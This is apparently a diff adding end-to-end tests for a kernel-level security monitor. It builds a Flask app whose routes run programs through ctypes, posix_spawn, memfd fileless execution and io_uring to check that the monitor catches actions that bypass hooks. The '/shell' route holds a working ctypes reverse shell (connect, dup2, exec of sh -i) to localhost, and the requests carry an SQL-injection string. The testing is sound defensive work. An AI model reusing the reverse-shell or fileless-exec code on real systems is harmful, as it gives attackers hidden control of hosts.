@@ -1,0 +1,183 @@
+"""Code execution that goes around every Python hook: seen by the kernel, attributed to its request."""
+
+from __future__ import annotations
+
+import socket
+import subprocess
+import textwrap
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.e2e.harness import App, Node, free_port, running_app, wait_for
+
+TESTER = Path(__file__).parents[1] / "probes" / "uring.c"
+APP = textwrap.dedent("""
+    import ctypes, os, socket, sys
+    from flask import Flask, request
+
+    app = Flask(__name__)
+    libc = ctypes.CDLL(None, use_errno=True)
+
+    def strings(*words):
+        return (ctypes.c_char_p * (len(words) + 1))(*words, None)
+
+    def child(work):
+        pid = libc.fork()
+        if not pid:
+            work()
+            os._exit(9)
+        os.waitpid(pid, 0)
+        return "done"
+
+    @app.route("/")
+    def index():
+        return "ok"
+
+    @app.route("/execve")
+    def execve():
+        return child(lambda: libc.execve(b"/bin/true", strings(b"true", b"by-ctypes"), strings()))
+
+    @app.route("/spawn")
+    def spawn():
+        pid = ctypes.c_int()
+        libc.posix_spawn(ctypes.byref(pid), b"/bin/true", None, None, strings(b"true", b"by-spawn"), strings())
+        os.waitpid(pid.value, 0)
+        return "done"
+
+    @app.route("/memfd")
+    def memfd():
+        fd = libc.memfd_create(b"payload", 0)
+        with open("/bin/true", "rb") as true:
+            os.write(fd, true.read())
+        return child(lambda: libc.fexecve(fd, strings(b"true", b"by-memfd"), strings()))
+
+    @app.route("/daemon")
+    def daemon():
+        def grandchild():
+            libc.setsid()
+            if not libc.fork():
+                libc.usleep(100000)
+                libc.execve(b"/bin/true", strings(b"true", b"by-daemon"), strings())
+            os._exit(0)
+        return child(grandchild)
+
+    @app.route("/shell")
+    def shell():
+        def connect_back():
+            client = libc.socket(2, 1, 0)
+            port = int(request.args["port"])
+            address = bytes([2, 0, port >> 8, port & 255, 127, 0, 0, 1]) + bytes(8)
+            libc.connect(client, address, 16)
+            for stream in range(3):
+                libc.dup2(client, stream)
+            libc.execve(b"/bin/sh", strings(b"sh", b"-i"), strings())
+        return child(connect_back)
+
+    @app.route("/uring")
+    def uring():
+        library = ctypes.CDLL(os.environ["URING"])
+        client = socket.socket()
+        return str(library.uring_connect(client.fileno(), int(request.args["port"])))
+""")
+
+
+@pytest.fixture(scope="module")
+def app(witnessed_node: Node, tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
+    directory = tmp_path_factory.mktemp("bypass")
+    (directory / "bypass.py").write_text(APP)
+    library = directory / "uring.so"
+    subprocess.run(["cc", "-shared", "-fPIC", "-o", library, TESTER], check=False, capture_output=True)
+    port = free_port()
+    server = f"gunicorn -w 2 -b 127.0.0.1:{port} bypass:app"
+    with running_app(
+        witnessed_node, server.split(), port, directory, COWITNESS_SERVICE="bypassed", URING=str(library)
+    ) as app:
+        yield app
+
+
+def told(node: Node, path: str, category: str) -> dict[str, Any]:
+    """The trace of the request to this path, once the kernel's finding and the agent's word stand in it."""
+
+    def found() -> dict[str, Any]:
+        traces = node.traces("--service", "bypassed")
+        mine = [t for t in traces if t["request"].get("urlPath") == path and category in t.get("categories", ())]
+        return mine[0] if mine else {}
+
+    return wait_for(found, 30, f"a trace of {path} with {category}")
+
+
+def execs(trace: dict[str, Any]) -> list[list[str]]:
+    return [event["argv"] for event in trace["kernelEvents"] if event["kind"] == "exec"]
+
+
+def test_memfd(app: App, witnessed_node: Node) -> None:
+    """A program that never was a file: a confirmed trace, with the request that no rule matched."""
+    assert app.get("/memfd") == (200, b"done")
+    trace = told(witnessed_node, "/memfd", "fileless_execution")
+    assert (trace["verdict"], trace["request"]["statusCode"]) == ("VERDICT_CONFIRMED", 200)
+    assert execs(trace) == [["true", "by-memfd"]]
+    proof = next(event for event in trace["kernelEvents"] if event.get("evidence"))
+    assert (proof["nameless"], proof["target"]) == (True, "memfd:payload")
+    shown = witnessed_node.cli("trace", trace["id"]).stdout
+    assert "memfd:payload" in shown
+
+
+def test_reverse_shell(app: App, witnessed_node: Node) -> None:
+    """A shell on a connection to the attacker: connect, three dup2, exec; the trace names the other end."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+
+        def attacker() -> None:
+            with server.accept()[0] as shell:
+                shell.sendall(b"exit\n")
+                while shell.recv(4096):
+                    pass
+
+        thread = threading.Thread(target=attacker)
+        thread.start()
+        assert app.get(f"/shell?port={port}") == (200, b"done")
+        thread.join(20)
+    trace = told(witnessed_node, "/shell", "reverse_shell")
+    assert trace["verdict"] == "VERDICT_CONFIRMED"
+    streams = [event for event in trace["kernelEvents"] if event["kind"] == "stream"]
+    assert [(one["operation"], one.get("result", 0)) for one in streams] == [("dup2", 0), ("dup2", 1), ("dup2", 2)]
+    assert {one["peer"]["port"] for one in streams} == {port}
+    proof = next(event for event in trace["kernelEvents"] if event.get("evidence"))
+    assert (proof["argv"], proof["socketStreams"]) == (["sh", "-i"], 7)
+    assert proof["ancestors"]
+
+
+@pytest.mark.parametrize(("path", "word"), [("execve", "by-ctypes"), ("spawn", "by-spawn"), ("daemon", "by-daemon")])
+def test_native_execution(app: App, witnessed_node: Node, path: str, word: str) -> None:
+    """An exec that no hook saw stands in the trace of its request, a daemonised grandchild's too."""
+    app.get(f"/{path}?q=%27%20OR%201=1%20--")  # an attempt of another kind, so that the request is kept
+
+    def found() -> dict[str, Any]:
+        traces = witnessed_node.traces("--service", "bypassed")
+        mine = [t for t in traces if t["request"].get("urlPath") == f"/{path}" and ["true", word] in execs(t)]
+        return mine[0] if mine else {}
+
+    trace = wait_for(found, 30, f"a trace of /{path} with its exec")
+    event = next(e for e in trace["kernelEvents"] if e["kind"] == "exec")
+    assert event["attribution"] == "ATTRIBUTION_INHERITED"
+    assert not [operation for operation in trace.get("operations", ()) if operation["kind"] in ("shell", "argv")]
+
+
+def test_connect_by_io_uring(app: App, witnessed_node: Node) -> None:
+    """A connection that no connect(2) made stands in the trace, with its address."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        port = server.getsockname()[1]
+        if app.get(f"/uring?port={port}&q=%27%20OR%201=1%20--")[1] != b"0":
+            pytest.skip("no io_uring or no compiler here")
+
+    def found() -> list[dict[str, Any]]:
+        traces = witnessed_node.traces("--service", "bypassed")
+        events = [e for t in traces if t["request"].get("urlPath") == "/uring" for e in t["kernelEvents"]]
+        return [e for e in events if e["kind"] == "connect" and e["peer"].get("port") == port]
+
+    (event,) = wait_for(found, 30, "the connect")
+    assert (event["attribution"], event["verified"]) == ("ATTRIBUTION_EXACT", True)
